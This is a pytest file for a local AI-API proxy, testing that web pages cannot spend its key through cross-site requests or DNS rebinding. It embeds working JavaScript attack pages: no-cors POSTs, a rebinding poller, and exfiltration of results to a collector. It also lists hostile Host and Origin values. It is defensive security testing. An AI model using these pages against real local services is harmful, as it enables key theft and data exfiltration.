"""Issue 16 item 5: web pages cannot use the local proxy. Plain HTTP checks of the Host /
Origin / content-type rules, then a real headless Chromium (Debian's ``chromium``; `make test`
installs it): a page on another site cannot spend the proxy's key or read a reply, and a
DNS-rebinding page (its own name, same port, now answered by the proxy) is refused."""

from __future__ import annotations

import http.server
import json
import re
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2
import pytest

from pqe2ee.proxy.app import ProxyConfig, create_app
from pqe2ee.proxy.app.browser_guard import BrowserPolicy
from pqe2ee.server._metrics import MetricsMiddleware
from servers import run_app, serve_chain

KEY = "browser-test-key"
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHAT = {"model": "dev-echo", "messages": [{"role": "user", "content": "spend the key"}]}
JSON_CT = {"content-type": "application/json"}


@dataclass
class Stack:
    engine: str
    relay: str

    def completions(self) -> int:
        return int(httpx2.get(self.engine + "/dev/stats", timeout=10).json()["requests"])

    def proxy_config(self, **kw: Any) -> ProxyConfig:
        return ProxyConfig(api_base=self.relay, models_base=self.relay, api_key=KEY, **kw)


@pytest.fixture(scope="module")
def stack() -> Iterator[Stack]:
    with serve_chain(1, api_keys=(KEY,), rate_limit=10_000, nonces_per_instance=100) as chain:
        yield Stack(chain.engine, chain.relay)


@pytest.fixture(scope="module")
def proxy(stack: Stack) -> Iterator[str]:
    config = stack.proxy_config(allow_origins=("http://ui.example:3000",))
    with run_app(create_app(config)) as url:
        yield url


def test_sdk_style_call_still_works(stack: Stack, proxy: str) -> None:
    before = stack.completions()
    r = httpx2.post(proxy + "/v1/chat/completions", json=CHAT, timeout=30)
    assert r.status_code == 200, r.text
    assert stack.completions() > before  # (the counter the browser tests rely on moves)


@pytest.mark.parametrize(
    ("headers", "status", "code"),
    [
        ({"host": "evil.example:8787"}, 421, "host_not_allowed"),
        ({"host": "127.0.0.1.evil.example"}, 421, "host_not_allowed"),
        ({"origin": "https://evil.example"}, 403, "origin_not_allowed"),
        ({"origin": "null"}, 403, "origin_not_allowed"),
        ({"sec-fetch-site": "cross-site"}, 403, "origin_not_allowed"),
        ({"content-type": "text/plain"}, 415, "unsupported_content_type"),
        ({"content-type": "application/x-www-form-urlencoded"}, 415, "unsupported_content_type"),
        ({"content-type": "multipart/form-data; boundary=x"}, 415, "unsupported_content_type"),
        ({"content-type": ""}, 415, "unsupported_content_type"),
    ],
)
def test_refusals(
    stack: Stack, proxy: str, headers: dict[str, str], status: int, code: str
) -> None:
    before = stack.completions()
    r = httpx2.post(
        proxy + "/v1/chat/completions",
        content=json.dumps(CHAT).encode(),
        headers={**JSON_CT, **headers},
        timeout=30,
    )
    assert r.status_code == status, r.text
    assert r.json()["error"]["code"] == code
    assert "access-control-allow-origin" not in r.headers
    assert stack.completions() == before


def test_anthropic_paths_refuse_in_their_dialect(proxy: str) -> None:
    r = httpx2.post(
        proxy + "/v1/messages", content=b"{}", headers={"content-type": "text/plain"}, timeout=30
    )
    assert r.status_code == 415
    assert r.json()["type"] == "error"


def test_allowed_origin_gets_cors(proxy: str) -> None:
    origin = "http://ui.example:3000"
    pre = httpx2.options(
        proxy + "/v1/chat/completions",
        headers={
            "origin": origin,
            "access-control-request-method": "POST",
            "access-control-request-headers": "content-type",
        },
    )
    assert pre.status_code == 204
    assert pre.headers["access-control-allow-origin"] == origin
    assert pre.headers["access-control-allow-headers"] == "content-type"
    r = httpx2.post(
        proxy + "/v1/chat/completions", json=CHAT, headers={"origin": origin}, timeout=30
    )
    assert r.status_code == 200
    assert r.headers["access-control-allow-origin"] == origin


def test_allowed_origin_gets_cors_on_a_streamed_answer(stack: Stack, proxy: str) -> None:
    """The body messages of a streamed answer go straight beneath the metrics layer (past the
    guard, which only adds headers to the response start): the start still gets the CORS
    headers, the body arrives whole and is counted."""
    (metrics,) = [
        m for m in create_app(stack.proxy_config()).user_middleware if m.cls is MetricsMiddleware
    ]
    assert metrics.kwargs["direct_bodies"] is True
    origin = "http://ui.example:3000"
    with httpx2.stream(
        "POST",
        proxy + "/v1/chat/completions",
        json={**CHAT, "stream": True},
        headers={"origin": origin},
        timeout=30,
    ) as r:
        assert r.status_code == 200
        assert r.headers["access-control-allow-origin"] == origin
        body = r.read()
    assert body.count(b"data: {") >= 3 and body.endswith(b"data: [DONE]\n\n")
    metrics_text = httpx2.get(proxy + "/metrics", timeout=30).text
    assert re.search(r'pqe2ee_proxy_response_bytes_total\{route="chat"\} [1-9]', metrics_text)


def test_policy_hosts() -> None:
    loop = BrowserPolicy.of("127.0.0.1")
    assert loop.host_ok("localhost:8787") and loop.host_ok("[::1]:8787")
    assert loop.host_ok("LOCALHOST.") and not loop.host_ok("10.0.0.5:8787")
    assert not loop.host_ok(None) and not loop.host_ok("")
    wild = BrowserPolicy.of("0.0.0.0", ["proxy.lan"])
    assert wild.host_ok("10.0.0.5:8787") and wild.host_ok("proxy.lan")
    assert not wild.host_ok("rebind.example:8787")
    assert BrowserPolicy.of("127.0.0.1", ["*"]).host_ok("anything")


# -- a real browser -------------------------------------------------------------------------


class _Attacker(http.server.ThreadingHTTPServer):
    """Serves the attack page and collects what it reports (POST /report)."""

    daemon_threads = True

    def __init__(self, port: int, page: str) -> None:
        self.page = page.encode()
        self.reports: list[Any] = []
        super().__init__(("127.0.0.1", port), _AttackHandler)


class _AttackHandler(http.server.BaseHTTPRequestHandler):
    server: _Attacker

    def do_GET(self) -> None:
        body = self.server.page if self.path.startswith("/attack") else b'{"status":"attacker"}'
        self.send_response(200)
        self.send_header("content-type", "text/html" if body[:1] == b"<" else "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        data = self.rfile.read(int(self.headers.get("content-length", "0")))
        self.server.reports.append(json.loads(data))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


def _serve(server: _Attacker) -> threading.Thread:
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    return thread


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _chromium(url: str, profile: Path) -> subprocess.Popen[bytes]:
    if CHROMIUM is None:
        pytest.skip("chromium not found (`make test` installs it: apt-get install chromium)")
    return subprocess.Popen(
        [
            CHROMIUM,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            f"--user-data-dir={profile}",
            "--host-resolver-rules=MAP *.test 127.0.0.1",
            url,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def _wait_reports(server: _Attacker, n: int, limit: float = 60.0) -> list[Any]:
    deadline = time.monotonic() + limit
    while len(server.reports) < n:
        if time.monotonic() > deadline:
            raise AssertionError(f"the page reported {server.reports!r}, expected {n} reports")
        time.sleep(0.05)
    return server.reports


_ATTEMPTS_JS = """
const body = JSON.stringify(%(chat)s);
async function attempt(name, url, opts) {
  try {
    const r = await fetch(url, opts);
    let text = null;
    try { text = await r.text(); } catch (e) {}
    return {name, status: r.status, type: r.type, body: text};
  } catch (e) { return {name, error: String(e)}; }
}
"""

CROSS_SITE_PAGE = (
    "<html><body><script>"
    + _ATTEMPTS_JS
    + """
(async () => {
  const url = "%(proxy)s/v1/chat/completions";
  const results = [
    await attempt("text-plain-no-cors", url,
      {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}, body}),
    await attempt("form-no-cors", url, {method: "POST", mode: "no-cors",
      headers: {"content-type": "application/x-www-form-urlencoded"}, body}),
    await attempt("no-type-no-cors", url,
      {method: "POST", mode: "no-cors", body: new Blob([body])}),
    await attempt("text-plain-cors", url,
      {method: "POST", headers: {"content-type": "text/plain"}, body}),
    await attempt("json-cors", url,
      {method: "POST", headers: {"content-type": "application/json"}, body}),
  ];
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script></body></html>"""
)

REBIND_PAGE = (
    "<html><body><script>"
    + _ATTEMPTS_JS
    + """
(async () => {
  await fetch("/report", {method: "POST", body: JSON.stringify("loaded")});
  // poll our own origin until the name "rebinds" to the proxy (here: the port changes hands)
  for (let i = 0; i < 400; i++) {
    const r = await attempt("health", "/health", {});
    if (r.body && r.body.indexOf("attacker") < 0 && r.status !== undefined) break;
    await new Promise(ok => setTimeout(ok, 100));
  }
  const results = [
    await attempt("same-origin-json", "/v1/chat/completions",
      {method: "POST", headers: {"content-type": "application/json"}, body}),
    await attempt("same-origin-models", "/v1/models", {}),
  ];
  await fetch("%(collector)s/report", {method: "POST", mode: "no-cors",
    body: JSON.stringify(results)});
})();
</script></body></html>"""
)


def test_browser_cross_site_page_cannot_spend_the_key(
    stack: Stack, proxy: str, tmp_path: Path
) -> None:
    page = CROSS_SITE_PAGE % {"chat": json.dumps(CHAT), "proxy": proxy}
    attacker = _Attacker(0, page)
    _serve(attacker)
    before = stack.completions()
    browser = _chromium(f"http://attacker.test:{attacker.server_port}/attack", tmp_path)
    try:
        (results,) = _wait_reports(attacker, 1)
    finally:
        browser.terminate()
        browser.wait(10)
        attacker.shutdown()
        attacker.server_close()
    assert [r["name"] for r in results][:2] == ["text-plain-no-cors", "form-no-cors"]
    for r in results:
        assert "dev-echo" not in (r.get("body") or ""), r  # no reply read
    assert stack.completions() == before, results  # and the key never spent


def test_browser_dns_rebinding_page_cannot_read_replies(stack: Stack, tmp_path: Path) -> None:
    collector = _Attacker(0, "")
    _serve(collector)
    port = _free_port()
    page = REBIND_PAGE % {
        "chat": json.dumps(CHAT),
        "collector": f"http://127.0.0.1:{collector.server_port}",
    }
    attacker = _Attacker(port, page)
    _serve(attacker)
    browser = _chromium(f"http://rebind.test:{port}/attack", tmp_path)
    before = stack.completions()
    try:
        assert _wait_reports(attacker, 1) == ["loaded"]
        attacker.shutdown()
        attacker.server_close()  # the name's port now belongs to the proxy
        with run_app(create_app(stack.proxy_config()), port=port):
            (results,) = _wait_reports(collector, 1)
    finally:
        browser.terminate()
        browser.wait(10)
        collector.shutdown()
        collector.server_close()
    by_name = {r["name"]: r for r in results}
    assert by_name["same-origin-json"]["status"] == 421, results
    assert "dev-echo" not in by_name["same-origin-json"]["body"]
    assert by_name["same-origin-models"]["status"] == 421
    assert stack.completions() == before
